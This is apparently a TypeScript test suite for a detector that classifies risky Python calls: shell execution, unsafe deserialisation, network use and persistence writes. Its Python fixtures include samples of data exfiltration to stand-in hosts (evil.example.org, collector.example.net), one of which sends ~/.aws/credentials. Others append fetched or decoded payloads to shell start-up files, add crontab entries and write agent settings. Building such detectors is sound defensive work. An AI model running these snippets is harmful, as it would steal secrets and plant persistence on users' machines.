// Python extractor: callee resolution through imports, aliases and reflection, op classification and the
// per-call details (constantArgs, shell, unsafe, host, authHeaderOnly, target).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { BehaviourFacts, CallFact } from '../facts.js';
import { pyFacts } from './test-support.js';

const py = (...lines: string[]): string => `${lines.join('\n')}\n`;

function only(facts: BehaviourFacts, line: number): CallFact {
  const found = facts.calls.filter((c) => c.line === line);
  assert.equal(found.length, 1, `one call fact on line ${line}: ${JSON.stringify(facts.calls)}`);
  return found[0] as CallFact;
}

function ops(facts: BehaviourFacts): string[] {
  return facts.calls.map((c) => `${c.line}:${c.op}:${c.callee}`);
}

test('imports and aliases resolve to canonical callees', async () => {
  const facts = await pyFacts(py(
    'import os as o, subprocess as sp',
    'from os import system as s',
    'from subprocess import *',
    'import builtins, importlib',
    'o.system(x)',
    's(x)',
    'Popen(x)',
    'sp.check_output(x)',
    'builtins.exec(x)',
    '__builtins__.eval(x)',
    "__import__('os').system(x)",
    "importlib.import_module('os').popen(x)",
    "getattr(__import__('os'), 'system')(x)",
    "getattr(o, 'sys' + 'tem')(x)",
    'f = o.system',
    'f(x)',
    'ev = eval',
    'ev(x)',
    "globals()['__builtins__']['exec'](x)",
  ));
  assert.deepEqual(ops(facts), [
    '5:system:os.system', '6:system:os.system', '7:process:subprocess.Popen', '8:process:subprocess.check_output',
    '9:exec:exec', '10:eval:eval', '11:system:os.system', '12:system:os.popen', '13:system:os.system',
    '14:system:os.system', '16:system:os.system', '18:eval:eval', '19:exec:exec',
  ]);
});

test('look-alikes are not recorded: methods, re.compile, platform.system, literal_eval, local functions named like builtins', async () => {
  const facts = await pyFacts(py(
    'import re, platform, ast',
    're.compile(x)',
    'platform.system()',
    'ast.literal_eval(x)',
    'client.exec_command(x)',
    'def system(cmd):',
    '    return cmd',
    'system(x)',
    'print(len(x))',
  ));
  assert.deepEqual(facts.calls, []);
});

test('dynamic_import only for computed module names; constant names resolve instead', async () => {
  const facts = await pyFacts(py('import importlib', "importlib.import_module('json')", '__import__(name)', 'importlib.import_module(prefix + name)'));
  assert.deepEqual(ops(facts), ['3:dynamic_import:__import__', '4:dynamic_import:importlib.import_module']);
});

test('process vs system: shell=True, os.exec*/spawn*, pty.spawn, getoutput; constantArgs', async () => {
  const facts = await pyFacts(py(
    'import subprocess, os, pty, commands',
    'subprocess.run(["git", "status"])',
    'subprocess.run(["git", "clone", url])',
    'subprocess.run("ls " + d, shell=True)',
    'subprocess.run(["ls"], shell=False)',
    'os.execvp("sh", ["sh", "-c", cmd])',
    'os.spawnl(os.P_WAIT, "/bin/ls", "ls")',
    'pty.spawn("/bin/sh")',
    'subprocess.getoutput("uname -a")',
    'commands.getoutput(cmd)',
    'os.popen(cmd).read()',
  ));
  const summary = facts.calls.map((c) => [c.line, c.op, c.shell, c.constantArgs]);
  assert.deepEqual(summary, [
    [2, 'process', false, true], [3, 'process', false, false], [4, 'system', true, false], [5, 'process', false, true],
    [6, 'system', false, false], [7, 'system', false, false], [8, 'system', false, true], [9, 'system', true, true],
    [10, 'system', true, false], [11, 'system', true, false],
  ]);
});

test('deserialisers: unsafe unless SafeLoader / weights_only=True', async () => {
  const facts = await pyFacts(py(
    'import pickle, marshal, dill, shelve, jsonpickle, joblib, yaml, torch, cPickle',
    'import pandas as pd',
    'pickle.loads(b)', 'marshal.loads(b)', 'dill.loads(b)', 'shelve.open(p)', 'jsonpickle.decode(s)', 'pd.read_pickle(p)',
    'joblib.load(p)', 'yaml.unsafe_load(s)', 'yaml.load(s)', 'yaml.load(s, Loader=yaml.SafeLoader)', 'yaml.load(s, yaml.CSafeLoader)',
    'torch.load(p)', 'torch.load(p, weights_only=True)', 'cPickle.Unpickler(f)', 'yaml.safe_load(s)', 'json.loads(s)',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op, c.unsafe]), [
    [3, 'deserialize', true], [4, 'deserialize', true], [5, 'deserialize', true], [6, 'deserialize', true],
    [7, 'deserialize', true], [8, 'deserialize', true], [9, 'deserialize', true], [10, 'deserialize', true],
    [11, 'deserialize', true], [12, 'deserialize', false], [13, 'deserialize', false], [14, 'deserialize', true],
    [15, 'deserialize', false], [16, 'deserialize', true],
  ]);
});

test('sql: only a non-constant SQL string is a sink; parametrised constant queries are not', async () => {
  const facts = await pyFacts(py(
    'import pandas as pd',
    'cur.execute("SELECT 1 WHERE a = ?", (x,))',
    'cur.execute(f"SELECT * FROM t WHERE a = {x}")',
    'conn.executemany(q, rows)',
    'pd.read_sql("SELECT 1", conn)',
    'pd.read_sql(q, conn)',
    'session.execute(text(q))',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op, c.callee]), [
    [3, 'sql', 'cur.execute'], [4, 'sql', 'conn.executemany'], [6, 'sql', 'pandas.read_sql'], [7, 'sql', 'session.execute'],
  ]);
});

test('network: clients, sessions, sockets, smtplib, hosts from constant URLs and prefixes', async () => {
  const facts = await pyFacts(py(
    'import requests, httpx, socket, smtplib, urllib.request',
    'BASE = "https://api.vendor.com"',
    'requests.get("https://Example.COM/x?y=1")',
    'requests.post(f"{BASE}/v1/items", json=body)',
    'session = requests.Session()',
    'session.post("https://a.example.net" + path)',
    'with httpx.Client() as c:',
    '    c.put(url)',
    's = socket.socket()',
    's.connect(("evil.example.org", 4444))',
    's.sendall(data)',
    'smtplib.SMTP("mail.example.com").sendmail(a, b, msg)',
    'urllib.request.urlopen(urllib.request.Request("http://u.example.io/p", data=d))',
    'requests.request("POST", "https://r.example.io/")',
    'conn.sendall(data)',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op, c.callee, c.host]), [
    [3, 'network', 'requests.get', 'example.com'],
    [4, 'network', 'requests.post', 'api.vendor.com'],
    [6, 'network', 'requests.Session.post', 'a.example.net'],
    [8, 'network', 'httpx.Client.put', undefined],
    [10, 'network', 'socket.socket.connect', 'evil.example.org'],
    [11, 'network', 'socket.socket.sendall', undefined],
    [12, 'network', 'smtplib.SMTP.sendmail', undefined],
    [13, 'network', 'urllib.request.urlopen', 'u.example.io'],
    [14, 'network', 'requests.request', 'r.example.io'],
    [15, 'network', 'conn.sendall', undefined],
  ]);
  assert.ok(facts.calls.every((c) => c.taints.length === 0), 'untainted network calls are still recorded, with no taints');
});

test('authHeaderOnly: secrets only in auth headers (dict, variable, subscript, Bearer concat, auth=)', async () => {
  const facts = await pyFacts(py(
    'import os, requests',
    'TOKEN = os.environ["VENDOR_API_KEY"]',
    'requests.get("https://api.v.io", headers={"Authorization": f"Bearer {TOKEN}"})',
    'h = {"X-Api-Key": TOKEN, "Accept": "application/json"}',
    'requests.get("https://api.v.io", headers=h, params={"q": query})',
    'h2 = {}',
    'h2["Authorization"] = "Bearer " + TOKEN',
    'requests.post("https://api.v.io", headers=h2, json={"q": 1})',
    'requests.get("https://api.v.io", auth=("user", TOKEN))',
    'requests.post("https://api.v.io", headers={"Authorization": TOKEN}, json={"k": TOKEN})',
    'requests.post("https://api.v.io", headers={"X-Debug": TOKEN})',
    'requests.post("https://api.v.io", data=TOKEN)',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.authHeaderOnly, c.taints.map((t) => t.kind)]), [
    [3, true, ['env']], [5, true, ['env']], [8, true, ['env']], [9, true, ['env']],
    [10, false, ['env']], [11, false, ['env']], [12, false, ['env']],
  ]);
});

test('persistence writes: start-up files, Path.write_text, shutil.copy, crontab/launchctl/systemctl commands', async () => {
  const facts = await pyFacts(py(
    'import os, shutil, subprocess',
    'from pathlib import Path',
    'open(os.path.expanduser("~/.bashrc"), "a").write(line)',
    'open(os.path.expanduser("~/.bashrc")).read()',
    'rc = Path.home() / ".zshrc"',
    'rc.write_text(payload)',
    'shutil.copy("agent.plist", os.path.expanduser("~/Library/LaunchAgents/com.x.plist"))',
    'subprocess.run(["launchctl", "load", plist])',
    'os.system("crontab -l")',
    'os.system("(crontab -l; echo \'* * * * * x\') | crontab -")',
    'subprocess.run(["systemctl", "--user", "enable", "x.service"])',
    'open("notes.txt", "w").write(line)',
    'Path(".claude/settings.json").write_text(cfg)',
  ));
  const writes = facts.calls.filter((c) => c.op === 'persistence_write').map((c) => [c.line, c.target]);
  assert.deepEqual(writes, [
    [3, '~/.bashrc'], [6, '.zshrc'], [7, '~/Library/LaunchAgents/com.x.plist'], [8, 'launchd'], [10, 'crontab'],
    [11, 'systemd'], [13, '.claude/settings.json'],
  ]);
});

test('facts carry 1-based lines, 0-based columns and clipped text', async () => {
  const facts = await pyFacts(py('import os', `if x:\n    os.system("${'a'.repeat(300)}")`));
  const c = only(facts, 3);
  assert.equal(c.column, 4);
  assert.ok(c.text.startsWith('os.system("aaa') && c.text.length <= 160);
});

test('persistence writes through a file handle carry what is written', async () => {
  const facts = await pyFacts(py(
    'import os, requests',
    'payload = requests.get("https://example.invalid/p").text',
    'with open(os.path.expanduser("~/.bashrc"), "a") as rc:',
    '    rc.write(payload)',
    'open(os.path.expanduser("~/.profile"), "a").write("export PATH=$PATH:~/bin\\n")',
    'fh = open("/etc/crontab", "w")',
    'fh.writelines([os.environ["API_KEY"]])',
  ));
  const writes = facts.calls.filter((c) => c.op === 'persistence_write');
  assert.deepEqual(writes.map((c) => [c.line, c.constantArgs, c.taints.map((t) => `${t.kind}@${t.line}`)]), [
    [3, false, ['network_input@2']], [5, true, []], [6, false, ['env@7']],
  ]);
});

test('persistence writes through a pathlib handle carry what is written; other files and read handles do not', async () => {
  const facts = await pyFacts(py(
    'import base64',
    'from pathlib import Path',
    'with (Path.home() / ".bashrc").open("a") as fh:',
    '    fh.write(base64.b64decode("Y29tbWFuZA==").decode())',
    'rc = Path.home() / ".zshrc"',
    'out = rc.open(mode="w")',
    'out.write(base64.b64decode("Y29t").decode())',
    '(Path.home() / ".profile").open("a").write("export PATH=$PATH:~/bin\\n")',
    'with (Path.home() / "notes.txt").open("a") as log:',
    '    log.write(base64.b64decode("Y29t").decode())',
    'with (Path.home() / ".bashrc").open() as src:',
    '    print(src.read())',
  ));
  const writes = facts.calls.filter((c) => c.op === 'persistence_write');
  assert.deepEqual(writes.map((c) => [c.line, c.constantArgs, c.taints.map((t) => `${t.kind}@${t.line}`)]), [
    [3, false, ['decoded@4']], [6, false, ['decoded@7']], [8, true, []],
  ]);
});

test('host from the default of an environment-configured base URL', async () => {
  const facts = await pyFacts(py(
    'import os, httpx',
    'API_URL = os.environ.get("NOTION_API_URL", "https://api.notion.com/v1")',
    'httpx.post(f"{API_URL}/search", json={})',
    'httpx.post(os.getenv("HOOK_URL") + "/x", json={})',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.host]), [[3, 'api.notion.com'], [4, undefined]]);
});

test('authHeaderOnly through request and session objects: Request(headers=), add_header, .headers[...], .headers.update, .auth', async () => {
  const facts = await pyFacts(py(
    'import os, urllib.request, requests',
    'TOKEN = os.environ["VENDOR_TOKEN"]',
    'req = urllib.request.Request("https://api.v.io/x", headers={"Authorization": f"token {TOKEN}"})',
    'urllib.request.urlopen(req)',
    'r2 = urllib.request.Request(url)',
    'r2.add_header("Authorization", "Bearer " + TOKEN)',
    'urllib.request.urlopen(r2, timeout=20)',
    'r3 = urllib.request.Request(url, data=TOKEN.encode())',
    'r3.add_header("X-Api-Key", TOKEN)',
    'urllib.request.urlopen(r3)',
    'r4 = urllib.request.Request(url)',
    'r4.headers["X-Debug"] = TOKEN',
    'urllib.request.urlopen(r4)',
    's = requests.Session()',
    's.headers.update({"Authorization": f"Bearer {TOKEN}"})',
    's.get("https://api.v.io/items", params={"q": query})',
    't = requests.Session()',
    't.headers["X-Api-Key"] = TOKEN',
    't.post("https://api.v.io/items", json={"secret": TOKEN})',
    'u = requests.Session()',
    'u.auth = ("user", TOKEN)',
    'u.get("https://api.v.io/me")',
    'v = requests.Session()',
    'v.headers.update({"X-Trace": TOKEN})',
    'v.get("https://api.v.io/me")',
    'w = requests.Session()',
    'w.get("https://api.v.io/me")',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.authHeaderOnly, c.taints.map((t) => `${t.kind}@${t.line}`)]), [
    [4, true, ['env@2']], [7, true, ['env@2']], [10, false, ['env@2']], [13, false, ['env@2']],
    [16, true, ['env@2']], [19, false, ['env@2']], [22, true, ['env@2']], [25, false, ['env@2']], [27, false, []],
  ]);
});

test('a header set on a request carries its taint even when it is not an auth header', async () => {
  const facts = await pyFacts(py(
    'import os, urllib.request',
    'req = urllib.request.Request("https://collector.example.net/")',
    'req.add_header("X-Data", open(os.path.expanduser("~/.aws/credentials")).read())',
    'urllib.request.urlopen(req)',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.authHeaderOnly, c.host, c.taints.map((t) => t.kind)]), [
    [4, false, 'collector.example.net', ['credential_file']],
  ]);
});

test('host of a request object: constant URL or constant scheme+host prefix only; base_url of a client', async () => {
  const facts = await pyFacts(py(
    'import urllib.request, httpx',
    'BASE = "https://api.github.com"',
    'r1 = urllib.request.Request(f"{BASE}/repos/{repo}/issues", headers=h)',
    'urllib.request.urlopen(r1)',
    'r2 = urllib.request.Request(url)',
    'urllib.request.urlopen(r2)',
    'r3 = urllib.request.Request("https://" + host + "/x")',
    'urllib.request.urlopen(r3)',
    'c = httpx.Client(base_url="https://api.x.io")',
    'c.get("/v1/me")',
    'd = httpx.Client()',
    'd.get(path)',
  ));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.host]), [
    [4, 'api.github.com'], [6, undefined], [8, undefined], [10, 'api.x.io'], [12, undefined],
  ]);
  const steps = await pyFacts(py(
    'import os, urllib.request',
    'BASE_URL = os.environ.get("EC_BASE_URL", "https://api.elastic-cloud.com")',
    'def call(path, headers):',
    '    url = f"{BASE_URL}/api/v1{path}"',
    '    req = urllib.request.Request(url, headers=headers)',
    '    return urllib.request.urlopen(req)',
  ));
  assert.deepEqual(steps.calls.map((c) => [c.line, c.host]), [[6, 'api.elastic-cloud.com']], 'a URL built in steps keeps its default host');
});
